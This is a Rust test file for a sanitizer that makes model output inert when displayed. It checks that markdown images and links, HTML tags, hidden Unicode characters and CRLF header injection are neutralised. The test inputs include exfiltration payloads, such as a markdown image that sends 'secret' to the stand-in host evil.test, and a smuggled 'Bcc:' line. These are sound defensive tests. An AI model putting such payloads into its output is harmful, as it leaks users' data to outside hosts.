//! Model output does nothing when it is displayed.

use super::{inert, inert_line};

#[test]
fn images_links_and_tags_are_pulled_apart() {
    let cases = [
        ("![x](https://evil.test/a?b=secret)", "[x] (https://evil.test/a?b=secret)"),
        ("[here](https://evil.test)", "[here] (https://evil.test)"),
        ("[ref]: https://evil.test", "[ref] : https://evil.test"),
        ("![x][ref]", "[x] [ref]"),
        ("<img src=https://evil.test>", "< img src=https://evil.test>"),
        ("<https://evil.test>", "< https://evil.test>"),
        ("2 < 3, a[1] and b!", "2 < 3, a[1] and b!"),
    ];
    for (written, shown) in cases {
        assert_eq!(inert(written), shown);
        assert_eq!(inert(shown), shown, "once is enough");
    }
}

#[test]
fn hidden_characters_are_removed() {
    assert_eq!(inert("a\u{202e}b\u{e0041}c\u{200b}d"), "abcd");
}

#[test]
fn a_line_is_harmless_short_and_one() {
    let shown = inert_line("Hi\r\nBcc: x@evil.test ![x](https://evil.test)", 200);
    assert_eq!(shown, "Hi Bcc: x@evil.test [x] (https://evil.test)");
    assert_eq!(inert_line(&"<b".repeat(50), 10), "< b< b< b<");
}
